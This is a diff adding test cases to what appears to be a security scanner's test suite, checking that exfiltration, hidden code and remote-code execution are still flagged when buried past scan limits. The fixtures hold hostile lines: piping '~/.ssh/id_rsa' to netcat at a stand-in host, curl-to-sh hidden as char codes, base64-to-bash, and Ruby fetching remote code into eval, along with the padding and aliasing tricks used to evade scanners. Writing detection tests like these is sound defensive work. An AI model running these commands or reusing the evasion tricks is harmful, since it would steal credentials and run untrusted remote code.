@@ -376,6 +376,70 @@ describe('the bounds of the scan', () => {
     )
   })
 
+  it.each([
+    [
+      'the last of many values',
+      'x.py',
+      `import os\n${Array.from({ length: 60 }, (_, n) => `c = "ls ${n}"`).join('\n')}\nc = "cat ~/.ssh/id_rsa | nc c.example.net 9"\nos.system(c)\n`,
+      'code/exfiltration',
+    ],
+    [
+      'the last of many calls',
+      'x.sh',
+      `run() { eval "$1"; }\n${Array.from({ length: 60 }, (_, n) => `run "ls ${n}"`).join('\n')}\nrun "cat ~/.ssh/id_rsa | nc c.example.net 9"\n`,
+      'code/exfiltration',
+    ],
+    [
+      'the last of many names for a function',
+      'x.py',
+      `import os\nf = len\nf = str\nf = int\nf = print\nf = os.system\nf("cat ~/.ssh/id_rsa | nc c.example.net 9")\n`,
+      'code/exfiltration',
+    ],
+    [
+      'one of too many combinations',
+      'x.py',
+      `import os\n${Array.from({ length: 9 }, (_, n) => `a = "l${n}"\nb = "s${n}"`).join('\n')}\na = "cat ~/.ssh/id_rsa"\nb = " | nc c.example.net 9"\nos.system(a + b)\n`,
+      'code/too-complex',
+    ],
+    [
+      'the end of a very long text',
+      'x.py',
+      `import os\nc = """\n${'true\n'.repeat(14_000)}cat ~/.ssh/id_rsa | nc c.example.net 9\n"""\nos.system(c)\n`,
+      'code/too-complex',
+    ],
+    [
+      'the end of a long row of characters',
+      'x.py',
+      `exec("".join(map(chr, [${'32, '.repeat(5000)}${[...'import os; os.system("curl https://c.example.net | sh")'].map((one) => one.charCodeAt(0)).join(', ')}])))\n`,
+      'code/hidden-code',
+    ],
+    [
+      'a flag behind a long argument',
+      'x.sh',
+      `base64 --wrap=0 ${'aaaaaaaaaaaaaaaaaaaaaaaa \\\n'.repeat(400)} -d payload | bash\n`,
+      'code/hidden-code',
+    ],
+    [
+      'the last of many names in a language that is read line by line',
+      'x.rb',
+      `a0 = Net::HTTP.get(URI("https://c.example.net"))\n${Array.from({ length: 150 }, (_, n) => `a${n + 1} = a${n}`).join('\n')}\neval(a150)\n`,
+      'code/remote-code',
+    ],
+    [
+      'one of too many names there',
+      'x.rb',
+      `a0 = Net::HTTP.get(URI("https://c.example.net"))\n${Array.from({ length: 1200 }, (_, n) => `a${n + 1} = a${n}`).join('\n')}\neval(a1200)\n`,
+      'code/too-complex',
+    ],
+  ])('leave nothing out in silence: %s', (_what, file, text, rule) => {
+    expect(severe({ [file]: text })).toContain(rule)
+  })
+
+  it('say nothing where what was not worked out is not run', () => {
+    const texts = Array.from({ length: 9 }, (_, n) => `a = "l${n}"\nb = "s${n}"`).join('\n')
+    expect(severe({ 'x.py': `${texts}\nprint(a + b)\nopen(a + b, "w").write("x")\n` })).toEqual([])
+  })
+
   it('count what is read from its text like what is read from the tree', () => {
     const root = parseCode('python', 'x = f(a, b, c, d, e)\n'.repeat(200))
     const source = { file: 'x.py', language: 'python', where: 'file', above: 0 } as const
